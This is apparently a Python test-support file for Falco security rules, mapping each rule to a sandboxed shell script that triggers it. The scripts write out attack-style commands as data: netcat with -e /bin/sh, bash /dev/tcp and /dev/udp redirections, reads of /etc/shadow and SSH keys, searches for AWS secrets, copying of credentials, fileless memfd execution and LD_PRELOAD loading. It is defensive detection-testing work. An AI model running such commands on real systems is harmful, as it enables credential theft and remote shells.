"""What each of Falco's maintained rules is about, done for real by small shell scripts: for falco_test.py."""

# What the scripts share. $1 is an empty scratch directory. stand_in NAME: a program of that name that does nothing;
# shell_as NAME: a shell of that name, which runs programs as that one would. Nothing outside the scratch directory is
# changed: files of the system are reached in a private mount namespace, addresses in a private network namespace.
PRELUDE = r"""
set -eu
stand_in() { cp /bin/true "$1"; }
shell_as() { cp "$(readlink -f "$(command -v bash)")" "$1"; }
private() { unshare -m sh -euc "mount --make-rprivate /; $1"; }
network() { unshare -n sh -euc "ip link set lo up; ip address add $1/32 dev lo; $2"; }
# served ADDRESS PORT COMMAND: the same with someone who listens there.
served() {
  network "$1" "exec python3 -c '
import socket, subprocess, sys
server = socket.create_server((sys.argv[1], int(sys.argv[2])))
subprocess.call([\"sh\", \"-c\", sys.argv[3]])' $1 $2 \"$3\""
}
cd "$1"
"""

# Runs $0 … in a cgroup that is named as a container's.
IN_CONTAINER = r"""
root=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)
group=$root/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope
mkdir -p "$group"
(echo 0 > "$group/cgroup.procs"; CONTAINED)
for i in $(seq 50); do rmdir "$group" 2>/dev/null && break; sleep 0.05; done
"""


def contained(script):
    return IN_CONTAINER.replace("CONTAINED", script)


# Runs SCRIPT in a cgroup that is named as a container's of podman, with the bundle that podman lays for such a one:
# what the container may and what is mounted into it is read there. The directories are removed where they are empty.
IN_BUNDLE = r"""
id=$(printf %s "$1" | sha256sum | cut -c1-64)
bundle=containers/storage/overlay-containers/$id/userdata
group=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)/libpod-$id.scope
clean_up() {
  for i in $(seq 50); do rmdir "$group" 2>/dev/null && break; sleep 0.05; done
  sleep 0.5  # the node may still be reading
  rm "/run/$bundle/config.json"
  cd /run && rmdir -p --ignore-fail-on-non-empty "$bundle"
}
mkdir -p "/run/$bundle"
cat > "/run/$bundle/config.json" <<'END'
CONFIG
END
mkdir "$group"
trap clean_up EXIT
(echo 0 > "$group/cgroup.procs"; SCRIPT)
"""

# What --privileged comes to.
PRIVILEGED = """{"annotations": {"io.container.manager": "libpod"},
 "process": {"capabilities": {"bounding": ["CAP_SYS_ADMIN", "CAP_SYS_MODULE", "CAP_SYS_RAWIO"]}},
 "linux": {"resources": {"devices": [{"allow": true, "access": "rwm"}]}}}"""

MOUNTED = """{"annotations": {"io.container.manager": "libpod"},
 "mounts": [{"destination": "/host", "type": "bind", "source": "/etc", "options": ["rbind", "ro"]}]}"""


def in_bundle(config, script):
    return IN_BUNDLE.replace("CONFIG", config).replace("SCRIPT", script)


# A name server and who asks it, then a connection to the address that it told.
ASK_AND_CONNECT = r"""
cat > ask.py <<'END'
import socket, struct, sys
name, address = sys.argv[1:]
question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + struct.pack(">BHH", 0, 1, 1)
record = struct.pack(">HHHIH", 0xc00c, 1, 1, 60, 4) + socket.inet_aton(address)
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind((address, 53))
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.connect((address, 53))
client.send(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + question)
server.sendto(struct.pack(">6H", 7, 0x8180, 1, 1, 0, 0) + question + record, server.recvfrom(512)[1])
client.recv(512)
listener = socket.create_server((address, 443))
socket.create_connection((address, 443)).close()
END
"""

CONNECT = r"""
cat > connect.py <<'END'
import socket
listener = socket.create_server(("169.254.169.254", 80))
socket.create_connection(("169.254.169.254", 80)).close()
END
"""

# rule: (script, what its output holds).
BEHAVIOUR = {
    "Run shell untrusted": ('shell_as nginx; ./nginx -c "sh -c \'exit 0\'; :"', "parent_exe=./nginx"),
    "System user interactive": ('chmod 755 .; shell_as sshd; ./sshd -c "setpriv --reuid=daemon --clear-groups id; :"', "user=daemon"),
    # A program is new for five seconds.
    "Read sensitive file trusted after startup": (
        "shell_as nginx; ./nginx -c 'sleep 6; read -r line < /etc/shadow'", "file=/etc/shadow"),
    "Detect release_agent File Container Escapes": (
        contained("private 'mount -t tmpfs tmpfs /mnt; : > /mnt/release_agent'"), "file=/mnt/release_agent"),
    "Search Private Keys or Passwords": ("find . -name id_rsa", "command=find . -name id_rsa"),
    "Remove Bulk Data from Disk": ("stand_in shred; ./shred -u x", "command=shred -u x"),
    "Find AWS Credentials": ("grep aws_secret_access_key /dev/null || true", "command=grep aws_secret_access_key /dev/null"),
    "Disallowed SSH Connection Non Standard Port": (
        "shell_as ssh; served 192.0.2.1 443 \"./ssh -c '</dev/tcp/192.0.2.1/443'\"", "->192.0.2.1:443"),
    "Modify Shell Configuration File": ("cp /dev/null .bashrc", "/.bashrc"),
    "Schedule Cron Jobs": ("stand_in crontab; ./crontab -", "process=crontab"),
    "DB program spawned process": ("shell_as mysqld; ./mysqld -c 'ls; :'", "process=ls"),
    "System procs network activity": (
        "served 192.0.2.1 9 \"bash -c '</dev/tcp/192.0.2.1/9'\"", "->192.0.2.1:9"),
    "Launch Suspicious Network Tool on Host": ("stand_in nmap; ./nmap -sS", "command=nmap -sS"),
    "Delete or rename shell history": (": > .bash_history; rm .bash_history", "/.bash_history"),
    "Adding ssh keys to authorized_keys": (
        "private 'mount -t tmpfs tmpfs /root; mkdir /root/.ssh; cp /dev/null /root/.ssh/authorized_keys'",
        "file=/root/.ssh/authorized_keys"),
    "Update Package Repository": (
        "private 'mount -t tmpfs tmpfs /etc; mkdir -p /etc/apt/sources.list.d; cp /dev/null /etc/apt/sources.list.d/x.list'",
        "file=/etc/apt/sources.list.d/x.list"),
    "Write below binary dir": ("private 'mount -t tmpfs tmpfs /usr/sbin; cp /dev/null /usr/sbin/tool'", "file=/usr/sbin/tool"),
    "Write below monitored dir": (
        "private 'mount -t tmpfs tmpfs /usr/local/sbin; cp /dev/null /usr/local/sbin/tool'", "file=/usr/local/sbin/tool"),
    "Write below rpm database": (
        "private 'mount -t tmpfs tmpfs /var; mkdir -p /var/lib/rpm; cp /dev/null /var/lib/rpm/Packages'",
        "file=/var/lib/rpm/Packages"),
    "Modify binary dirs": (
        "private 'mount -t tmpfs tmpfs /usr/sbin; cp /dev/null /usr/sbin/tool; rm /usr/sbin/tool'", "evt_type=unlink"),
    "Detect crypto miners using the Stratum protocol": (
        "stand_in worker; ./worker -o stratum+tcp://127.0.0.1:1", "command=worker -o stratum+tcp://127.0.0.1:1"),
    "Sudo Potential Privilege Escalation": ("stand_in sudoedit; ./sudoedit -s 'x\\ y'", "process=sudoedit"),
    "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)": ("stand_in pkexec; ./pkexec", "process=pkexec"),
    "Netcat/Socat Remote Code Execution on Host": ("stand_in nc; ./nc -e /bin/sh 127.0.0.1 1", "command=nc -e /bin/sh 127.0.0.1 1"),
    "Known Cryptominer Process Executed": ("stand_in xmrig; ./xmrig", "process=xmrig"),
    "Web Server Spawned Shell": ('shell_as nginx; ./nginx -c "sh -c \'exit 0\'; :"', "web_server=nginx"),
    "Web Server Spawned Suspicious Child Process": ("shell_as apache2; ./apache2 -c 'id; :'", "child=id web_server=apache2"),
    "Reverse Shell from Web Server": ("shell_as httpd; stand_in run; ./httpd -c './run bash -i; :'", "web_server=httpd"),
    "Terminal shell in container": (
        'cp "$(command -v script)" runc; ' + contained("./runc -qc 'sh -c :' /dev/null </dev/null >/dev/null"),
        "parent=runc"),
    "Netcat Remote Code Execution in Container": (
        "stand_in nc; " + contained("./nc -e /bin/sh 127.0.0.1 1"), "command=nc -e /bin/sh 127.0.0.1 1"),
    "Contact EC2 Instance Metadata Service From Container": (
        contained("served 169.254.169.254 80 \"bash -c '</dev/tcp/169.254.169.254/80'\""), "->169.254.169.254:80"),
    "Launch Suspicious Network Tool in Container": ("stand_in dig; " + contained("./dig x"), "command=dig x"),
    "Launch Remote File Copy Tools in Container": ("stand_in scp; " + contained("./scp a b:"), "command=scp a b:"),
    "Launch Ingress Remote File Copy Tools in Container": (
        "stand_in wget; " + contained("./wget http://127.0.0.1:1/"), "command=wget http://127.0.0.1:1/"),
    "Network Tool Executed During NPM Package Install": (
        "stand_in nmap; shell_as npm; " + contained("./npm -c './nmap x; :'"), "process=nmap"),
    "Privileged Container Device Access": (
        contained("private 'mount -t tmpfs tmpfs /dev; : > /dev/sdz'"), "device=/dev/sdz"),
    "Container Access to Host Sensitive Paths": (
        contained("mkdir new; private 'mount -t tmpfs tmpfs new; mkdir new/old new/host; cd new; pivot_root . old; : > /host/x'"),
        "file=/host/x"),
    # Two instructions that return nothing; the program is gone with who loaded it.
    "BPF Program Not Profiled": (
        """cat > load.py <<'END'
import ctypes, struct
code = ctypes.create_string_buffer(bytes([0xb7, 0, 0, 0, 0, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0]), 16)
licence = ctypes.create_string_buffer(b"GPL")
load = struct.pack("=IIQQQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(licence), 0, 0)
assert ctypes.CDLL(None).syscall(321, 5, load, len(load)) >= 0
END
python3 load.py""", "load.py"),
    "Backdoored library loaded into SSHD (CVE-2024-3094)": (
        "stand_in sshd; library=$(ldconfig -p | awk '/liblzma.so.5 / { print $NF; exit }'); export library; "
        "private 'mount -t tmpfs tmpfs /usr/lib/apt; cp \"$library\" /usr/lib/apt/liblzma.so.5.6.1; "
        "LD_PRELOAD=/usr/lib/apt/liblzma.so.5.6.1 ./sshd'", "file=/usr/lib/apt/liblzma.so.5.6.1"),
    "Basic Interactive Reconnaissance": ("script -qc 'exec whoami' /dev/null > /dev/null", "command=whoami"),
    "Change namespace privileges via unshare": (
        contained("setpriv --bounding-set=-sys_admin unshare -U true"), "command=unshare -U true"),
    "Change thread namespace": (
        'cp "$(command -v nsenter)" enter; ./enter --uts=/proc/self/ns/uts true', "process=enter"),
    "Clear Log Activities": (
        "private 'mount -t tmpfs tmpfs /var; mkdir /var/log; : > /var/log/auth.log'", "file=/var/log/auth.log"),
    "Contact K8S API Server From Container": (
        ASK_AND_CONNECT + contained(
            "network 192.0.2.1 'python3 ask.py kubernetes.default.svc.cluster.local 192.0.2.1'"), "->192.0.2.1:443"),
    # With one who listens: a connection that is refused is not "outbound".
    "Contact cloud metadata service from container": (
        CONNECT + contained('network 169.254.169.254 "python3 connect.py"'), "->169.254.169.254:80"),
    "Create Hardlink Over Sensitive Files": (
        "private 'mount -t tmpfs tmpfs /etc; : > /etc/shadow; ln /etc/shadow /etc/x'",
        "target=/etc/shadow linkpath=/etc/x"),
    "Create Symlink Over Sensitive Files": ("ln -s /etc/shadow x", "target=/etc/shadow"),
    "Create files below dev": ("private 'mount -t tmpfs tmpfs /dev; : > /dev/x'", "file=/dev/x"),
    "Decoding Payload in Container": (contained("echo eA== | base64 -d"), "command=base64 -d"),
    # timeout: a shell that reads is none of the rule's.
    "Directory traversal monitored file read": (
        "private 'mount -t tmpfs tmpfs /etc; : > /etc/shadow; timeout 9 cat /usr/../usr/../etc/shadow'",
        "file=/etc/shadow fileraw=/usr/../usr/../etc/shadow"),
    "Drop and execute new binary in container": (
        "mkdir low up work new; stand_in up/dropped; " + contained(
            "private 'mount -t overlay overlay -o lowerdir=low,upperdir=up,workdir=work new; ./new/dropped'"),
        "proc_exe=./new/dropped"),
    "Execution from /dev/shm": (
        "stand_in payload; private 'mount -t tmpfs tmpfs /dev/shm; cp payload /dev/shm/payload; /dev/shm/payload'",
        "proc_exepath=/dev/shm/payload"),
    "Exfiltrating Artifacts via Kubernetes Control Plane": (
        "shell_as runc; echo x > key; " + contained(
            "private 'mount -t tmpfs tmpfs /root; mkdir /root/.aws; cp key /root/.aws/credentials; "
            "./runc -c \"tar -cf copy.tar /root/.aws/credentials; :\"'"),
        "file=/root/.aws/credentials"),
    "Fileless execution via memfd_create": (
        "python3 -c 'import os, shutil; f = os.memfd_create(\"payload\"); "
        "shutil.copyfileobj(open(\"/bin/true\", \"rb\"), os.fdopen(os.dup(f), \"wb\")); "
        "os.execve(f, [\"payload\"], {})'",
        "proc_exepath=memfd:payload"),
    "Kubernetes Client Tool Launched in Container": (
        "stand_in kubectl; " + contained("./kubectl get secrets"), "command=kubectl get secrets"),
    "Launch Excessively Capable Container": (
        "stand_in init; " + contained("unshare -p -f ./init start"), "command=init start"),
    "Launch Package Management Process in Container": (
        "stand_in apk; " + contained("./apk add x"), "command=apk add x"),
    "Launch Privileged Container": (
        "stand_in init; " + in_bundle(PRIVILEGED, "unshare -p -f ./init privileged"), "command=init privileged"),
    "Launch Sensitive Mount Container": (
        "stand_in init; mkdir host; " + in_bundle(
            MOUNTED, "private 'mount --rbind -o ro /etc host; exec unshare -p -f ./init mounted'"),
        "mounts=/etc:/host:ro:"),
    "Mkdir binary dirs": (
        "private 'mount -t tmpfs tmpfs /usr/sbin; mkdir /usr/sbin/hidden'", "directory=/usr/sbin/hidden"),
    "Mount Launched in Privileged Container": (
        "mkdir new; " + in_bundle(PRIVILEGED, "private 'mount -t tmpfs tmpfs new'"),
        "command=mount -t tmpfs tmpfs new"),
    "Non sudo setuid": (
        "python3 -c 'import os; os.seteuid(1); os.setuid(0)'", "arg_uid=root"),
    "PTRACE anti-debug attempt": (
        "python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'", "ctypes.CDLL(None).ptrace(0, 0, 0, 0)"),
    "PTRACE attached to process": (  # 0x4206: PTRACE_SEIZE
        'sleep 9 & python3 -c "import ctypes; ctypes.CDLL(None).ptrace(0x4206, $!, None, None)"; kill $!',
        "ctypes.CDLL(None).ptrace(0x4206, "),
    "Packet socket created in container": (
        contained("python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'"),
        "socket.socket(socket.AF_PACKET"),
    "Potential Local Privilege Escalation via Environment Variables Misuse": (
        "stand_in tuned; GLIBC_TUNABLES=glibc.malloc.check=1 ./tuned",
        "env=GLIBC_TUNABLES=glibc.malloc.check=1 evt_type=execve"),
    "Program run with disallowed http proxy env": (
        "stand_in curl; HTTP_PROXY=http://127.0.0.1:1 ./curl x", "env=HTTP_PROXY=http://127.0.0.1:1"),
    "Read environment variable from /proc files": (
        contained("head -c 1 /proc/self/environ >/dev/null"), "command=head -c 1 /proc/self/environ"),
    "Read sensitive file untrusted": ("head -c 1 /etc/shadow >/dev/null", "command=head -c 1 /etc/shadow"),
    "Read ssh information": (
        "private 'mount -t tmpfs tmpfs /root; mkdir /root/.ssh; cd /root/.ssh; : > known_hosts; head -c 1 known_hosts'",
        "file=/root/.ssh/known_hosts"),
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        contained("network 192.0.2.1 \"bash -c 'exec 0</dev/udp/192.0.2.1/4444'\""), "->192.0.2.1:4444"),
    "Set Setuid or Setgid bit": (": > tool; chmod u+s tool", "command=chmod u+s tool"),
    "Unexpected UDP Traffic": ("network 192.0.2.1 \"bash -c 'echo >/dev/udp/192.0.2.1/4445'\"", "->192.0.2.1:4445"),
    "Unprivileged Delegation of Page Faults Handling to a Userspace Process": (  # 323: userfaultfd, 1: user mode only
        'python3 -c "import ctypes, os; os.setuid(1); ctypes.CDLL(None).syscall(323, 1)"',
        "evt_type=userfaultfd user=daemon user_uid=1"),
    "User mgmt binaries": ("stand_in useradd; ./useradd x", "command=useradd x"),
    "Write below etc": ("private 'mount -t tmpfs tmpfs /etc; cp /dev/null /etc/x.conf'", "file=/etc/x.conf"),
    "Write below root": ("private 'mount -t tmpfs tmpfs /root; cp /dev/null /root/x.conf'", "file=/root/x.conf"),
    "Debugfs Launched in Privileged Container": (
        "stand_in debugfs; " + in_bundle(PRIVILEGED, "./debugfs x"), "command=debugfs x"),
}

# Judged, and not to be done on every machine.
NOT_DONE = {
    "Linux Kernel Module Injection Detected":
        "the tests' kernels load no modules (CONFIG_MODULES is not set), and a call that fails is not told",
}

# Rules that are judged and not exercised here. The files switch all of them off, so that a node does not load them.
NOT_EXERCISED = {
    "Interpreted procs inbound network activity": "disabled in its file",
    "Interpreted procs outbound network activity": "disabled in its file",
    "Unexpected K8s NodePort Connection": "disabled in its file",
    "Create Hidden Files or Directories": "disabled in its file",
    "Modify Container Entrypoint": "disabled in its file",
}
